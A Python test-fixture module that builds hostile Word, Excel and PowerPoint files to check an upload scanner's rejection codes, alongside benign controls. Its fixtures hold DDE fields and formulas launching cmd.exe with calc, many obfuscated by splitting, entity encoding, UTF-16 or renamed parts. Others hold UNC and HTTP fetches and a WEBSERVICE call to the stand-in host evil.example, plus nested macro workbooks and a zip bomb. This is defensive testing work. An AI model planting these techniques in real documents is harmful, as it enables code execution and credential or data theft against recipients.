"""Hostile Office files beyond the first catalogue: Word fields that fetch from outside or run
DDE, packages embedded in packages, and Excel formulas that run DDE or reach the network."""

from __future__ import annotations

from collections.abc import Callable
from html import escape

from tests.unit.hostile_files import (
    Case,
    _read,
    _rezip,
    docx_plain,
    docx_remote_template,
    pptx_minimal,
    xlsx_bomb,
    xlsx_external_link,
    xlsx_macros,
    xlsx_plain,
)

# --- Word fields ----------------------------------------------------------------------------

W_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _docx_with(fragment: str, base: Callable[[], bytes] = docx_plain) -> bytes:
    """A document whose body starts with ``fragment`` (WordprocessingML paragraphs)."""
    data = base()
    xml = _read(data, "word/document.xml").decode("utf-8")
    xml = xml.replace("<w:body>", "<w:body>" + fragment, 1)
    return _rezip(data, {"word/document.xml": xml.encode("utf-8")})


def _simple(instr: str, shown: str = "x") -> str:
    run = f"<w:r><w:t>{shown}</w:t></w:r>"
    return f'<w:p><w:fldSimple w:instr="{escape(instr)}">{run}</w:fldSimple></w:p>'


def _complex(*pieces: str, result: str = "x") -> str:
    """A field whose code is split over one ``w:instrText`` run per piece."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{escape(piece)}</w:instrText></w:r>'
        for piece in pieces
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_includepicture_unc() -> bytes:
    """The picture is fetched from a network share when the field updates (leaks the login)."""
    return _docx_with(_simple(' INCLUDEPICTURE "\\\\evil.example\\share\\x.png" \\d '))


def docx_includetext_split() -> bytes:
    return _docx_with(_complex(" INCLU", "DETEXT http://evil.example/", "isi.docx "))


def docx_link_field() -> bytes:
    """A pasted link to a workbook on disk, updated automatically (``\\a``)."""
    code = ' LINK Excel.Sheet.12 "C:\\\\Data\\\\rekap.xlsx" "Sheet1!R1C1:R4C2" \\a \\h '
    return _docx_with(_complex(code))


def docx_hyperlink_field_unc() -> bytes:
    return _docx_with(_simple(' HYPERLINK "\\\\evil.example\\share\\sk.docx" '))


def docx_dde_simple() -> bytes:
    return _docx_with(_simple(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))


def docx_dde_lowercase_split() -> bytes:
    return _docx_with(_complex(" dd", "eauto c:\\\\windows\\\\system32\\\\cmd.exe", ' "/k calc"'))


def docx_dde_renamed_main_part() -> bytes:
    """Word opens the part ``_rels/.rels`` names, whatever it is called and however its name
    ends (its content type says what it is); word/document.xml is left as a harmless decoy."""
    data = docx_plain()
    xml = _read(data, "word/document.xml").decode("utf-8")
    field = _simple(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')
    main = xml.replace("<w:body>", "<w:body>" + field, 1).encode("utf-8")
    rels = _read(data, "_rels/.rels").replace(
        b'Target="word/document.xml"', b'Target="word/isi.dat"'
    )
    types = _read(data, "[Content_Types].xml").replace(
        b"</Types>",
        f'<Override PartName="/word/isi.dat" ContentType="{W_MAIN}"/></Types>'.encode(),
    )
    return _rezip(data, {"word/isi.dat": main, "_rels/.rels": rels, "[Content_Types].xml": types})


def docx_ordinary_fields() -> bytes:
    """What real SKs carry: a table of contents (HYPERLINK \\l), page numbers, a web link."""
    return _docx_with(
        _complex(' HYPERLINK \\l "_Toc190000001" ', result="BAB I")
        + _simple(" PAGE \\* MERGEFORMAT ", "1")
        + _complex(' HYPERLINK "https://jdih.kemenag.go.id/" ', result="JDIH")
        + _simple(' TOC \\o "1-3" \\h \\z \\u ', "Daftar isi")
    )


# --- packages inside packages ---------------------------------------------------------------

EMBED_DIR = {"docx": "word/embeddings/", "xlsx": "xl/embeddings/", "pptx": "ppt/embeddings/"}


def _embed(outer: bytes, kind: str, inner: bytes, inner_kind: str) -> bytes:
    name = "Microsoft_Excel_Worksheet" if inner_kind == "xlsx" else "Microsoft_Word_Document"
    return _rezip(outer, {f"{EMBED_DIR[kind]}{name}.{inner_kind}": inner})


def docx_embedding_macro_workbook() -> bytes:
    return _embed(docx_plain(), "docx", xlsx_macros(), "xlsx")


def xlsx_embedding_document_with_remote_template() -> bytes:
    return _embed(xlsx_plain(), "xlsx", docx_remote_template(), "docx")


def pptx_embedding_linked_workbook() -> bytes:
    return _embed(pptx_minimal(), "pptx", xlsx_external_link(), "xlsx")


def docx_embedding_dde_workbook() -> bytes:
    return _embed(docx_plain(), "docx", xlsx_dde_formula(), "xlsx")


def docx_embedding_workbook_bomb() -> bytes:
    """Harmless ratio outside (the inner zip does not shrink again), about 400x inside."""
    return _embed(docx_plain(), "docx", xlsx_bomb(2), "xlsx")


def docx_package_outside_embeddings() -> bytes:
    """A workbook with macros in an unusual folder, under a name that hides it: a relationship
    of type package can point anywhere in the document."""
    return _rezip(docx_plain(), {"word/lampiran/tabel.dat": xlsx_macros()})


def docx_embedding_no_package() -> bytes:
    """A part named like an embedded workbook that is no zip (an old binary, or encrypted)."""
    return _rezip(docx_plain(), {"word/embeddings/Lampiran.xlsx": b"\xd0\xcf\x11\xe0" * 64})


def nested(levels: int) -> Callable[[], bytes]:
    """A document with a workbook inside with a document inside ... ``levels`` deep."""

    def kind(level: int) -> str:
        return "docx" if level % 2 == 0 else "xlsx"

    def make() -> bytes:
        plain = {"docx": docx_plain, "xlsx": xlsx_plain}
        data = plain[kind(levels)]()
        for level in range(levels - 1, -1, -1):
            data = _embed(plain[kind(level)](), kind(level), data, kind(level + 1))
        return data

    return make


# --- Excel formulas -------------------------------------------------------------------------

PLAIN_FORMULA = b'<c r="C2"><f>AVERAGE(B2:B3)</f><v></v></c>'


def _xlsx_cells(cells: str) -> Callable[[], bytes]:
    """The plain workbook with ``cells`` (SpreadsheetML ``<c>`` elements) in place of C2."""

    def make() -> bytes:
        data = xlsx_plain()
        sheet = _read(data, "xl/worksheets/sheet1.xml")
        assert PLAIN_FORMULA in sheet
        return _rezip(
            data, {"xl/worksheets/sheet1.xml": sheet.replace(PLAIN_FORMULA, cells.encode("utf-8"))}
        )

    return make


xlsx_dde_formula = _xlsx_cells("<c r=\"C2\"><f>cmd|' /C calc'!A0</f><v>0</v></c>")
xlsx_dde_shared_formula = _xlsx_cells(
    '<c r="C2"><f t="shared" ref="C2:C3" si="0">'
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f><v>0</v></c>"
    '<c r="C3"><f t="shared" si="0"/><v>0</v></c>'
)
xlsx_dde_entity_pipe = _xlsx_cells("<c r=\"C2\"><f>cmd&#124;' /C calc'!A0</f></c>")
xlsx_dde_split_by_comment = _xlsx_cells("<c r=\"C2\"><f>cmd<!-- - -->|' /C calc'!A0</f></c>")
xlsx_webservice = _xlsx_cells(
    '<c r="C2" t="str"><f>_xlfn.WEBSERVICE("https://evil.example/x?id="&amp;A2)</f></c>'
)
xlsx_hyperlink_file = _xlsx_cells(
    '<c r="C2" t="str"><f>HYPERLINK("file:///C:/Windows/System32/calc.exe","Buka")</f></c>'
)
xlsx_hyperlink_unc = _xlsx_cells(
    '<c r="C2" t="str"><f>HYPERLINK("\\\\evil.example\\share\\x.xlsx","Lampiran")</f></c>'
)
xlsx_hyperlink_pieces = _xlsx_cells(
    '<c r="C2" t="str"><f>HYPERLINK("fi"&amp;"le:///C:/x.exe",A1)</f></c>'
)
xlsx_hyperlink_branch = _xlsx_cells(
    '<c r="C2" t="str"><f>hyperlink(IF(B2&gt;0,"#Sheet!A1","file:///C:/x.exe"))</f></c>'
)


def xlsx_dde_renamed_sheet_part() -> bytes:
    """Excel finds sheets through xl/_rels/workbook.xml.rels, whatever the part is called."""
    data = xlsx_dde_formula()
    sheet = _read(data, "xl/worksheets/sheet1.xml")
    rels = _read(data, "xl/_rels/workbook.xml.rels").replace(
        b"worksheets/sheet1.xml", b"data/lembar.xml"
    )
    clean = _read(xlsx_plain(), "xl/worksheets/sheet1.xml")
    return _rezip(
        data,
        {
            "xl/data/lembar.xml": sheet,
            "xl/worksheets/sheet1.xml": clean,
            "xl/_rels/workbook.xml.rels": rels,
        },
    )


def xlsx_dde_utf16() -> bytes:
    """The sheet in UTF-16 (allowed by the package format): no byte of it reads ``|``."""
    data = xlsx_dde_formula()
    sheet = _read(data, "xl/worksheets/sheet1.xml").decode("utf-8")
    if not sheet.startswith("<?xml"):
        sheet = '<?xml version="1.0" encoding="UTF-16"?>' + sheet
    return _rezip(data, {"xl/worksheets/sheet1.xml": sheet.encode("utf-16")})


def xlsx_dde_defined_name() -> bytes:
    data = xlsx_plain()
    book = _read(data, "xl/workbook.xml").replace(
        b"<definedNames/>",
        b"<definedNames><definedName name=\"Kurs\">cmd|'/c calc'!A0</definedName></definedNames>",
    )
    return _rezip(data, {"xl/workbook.xml": book})


xlsx_ordinary_formulas = _xlsx_cells(
    '<c r="C2" t="str"><f>HYPERLINK("https://jdih.kemenag.go.id/sk/"&amp;A2,"JDIH")</f></c>'
    '<c r="E2" t="str"><f>HYPERLINK("#Sheet!A1","ke atas")</f></c>'
    '<c r="F2" t="str"><f>HYPERLINK(D2)</f></c>'
    '<c r="G2" t="str"><f>"nilai|bobot: "&amp;B2</f></c>'
    "<c r=\"H2\"><f>SUM('Rekap|2026'!A1:A3)</f></c>"
    '<c r="I2" t="inlineStr"><is><t>Ya | Tidak</t></is></c>'
    '<c r="J2" t="str"><f>HYPERLINK("mailto:zi@kemenag.go.id")</f></c>'
)


# --- the catalogue --------------------------------------------------------------------------

OFFICE: list[Case] = [
    Case(
        "docx-includepicture-unc", docx_includepicture_unc, "sk.docx", "upload.office_field_fetch"
    ),
    Case("docx-includetext-split", docx_includetext_split, "sk.docx", "upload.office_field_fetch"),
    Case("docx-link-field", docx_link_field, "sk.docx", "upload.office_field_fetch"),
    Case("docx-hyperlink-field-unc", docx_hyperlink_field_unc, "sk.docx", "upload.link_scheme"),
    Case("docx-dde-simple", docx_dde_simple, "sk.docx", "upload.office_dde"),
    Case("docx-dde-lowercase-split", docx_dde_lowercase_split, "sk.docx", "upload.office_dde"),
    Case("docx-dde-renamed-main", docx_dde_renamed_main_part, "sk.docx", "upload.office_dde"),
    Case("docx-in-macro-xlsx", docx_embedding_macro_workbook, "sk.docx", "upload.office_macros"),
    Case(
        "xlsx-in-template-docx",
        xlsx_embedding_document_with_remote_template,
        "rekap.xlsx",
        "upload.office_external_target",
    ),
    Case(
        "pptx-in-linked-xlsx",
        pptx_embedding_linked_workbook,
        "paparan.pptx",
        "upload.office_external_links",
    ),
    Case("docx-in-dde-xlsx", docx_embedding_dde_workbook, "sk.docx", "upload.office_dde_formula"),
    Case("docx-in-hidden-xlsx", docx_package_outside_embeddings, "sk.docx", "upload.office_macros"),
    Case("docx-in-xlsx-bomb", docx_embedding_workbook_bomb, "sk.docx", "upload.zip_bomb"),
    Case("docx-in-not-a-package", docx_embedding_no_package, "sk.docx", "upload.office_ole"),
    Case("docx-nested-4", nested(4), "sk.docx", "upload.package_too_deep"),
    Case("xlsx-dde", xlsx_dde_formula, "rekap.xlsx", "upload.office_dde_formula"),
    Case("xlsx-dde-shared", xlsx_dde_shared_formula, "rekap.xlsx", "upload.office_dde_formula"),
    Case("xlsx-dde-entity", xlsx_dde_entity_pipe, "rekap.xlsx", "upload.office_dde_formula"),
    Case("xlsx-dde-comment", xlsx_dde_split_by_comment, "rekap.xlsx", "upload.office_dde_formula"),
    Case(
        "xlsx-dde-renamed", xlsx_dde_renamed_sheet_part, "rekap.xlsx", "upload.office_dde_formula"
    ),
    Case("xlsx-dde-utf16", xlsx_dde_utf16, "rekap.xlsx", "upload.office_dde_formula"),
    Case("xlsx-dde-name", xlsx_dde_defined_name, "rekap.xlsx", "upload.office_dde_formula"),
    Case("xlsx-webservice", xlsx_webservice, "rekap.xlsx", "upload.office_web_formula"),
    Case("xlsx-hyperlink-file", xlsx_hyperlink_file, "rekap.xlsx", "upload.link_scheme"),
    Case("xlsx-hyperlink-unc", xlsx_hyperlink_unc, "rekap.xlsx", "upload.link_scheme"),
    Case("xlsx-hyperlink-pieces", xlsx_hyperlink_pieces, "rekap.xlsx", "upload.link_scheme"),
    Case("xlsx-hyperlink-branch", xlsx_hyperlink_branch, "rekap.xlsx", "upload.link_scheme"),
]

OFFICE_BENIGN: list[Case] = [
    Case("docx-ordinary-fields", docx_ordinary_fields, "sk.docx"),
    Case("docx-nested-3", nested(3), "sk.docx"),
    Case("xlsx-ordinary-formulas", xlsx_ordinary_formulas, "rekap.xlsx"),
]
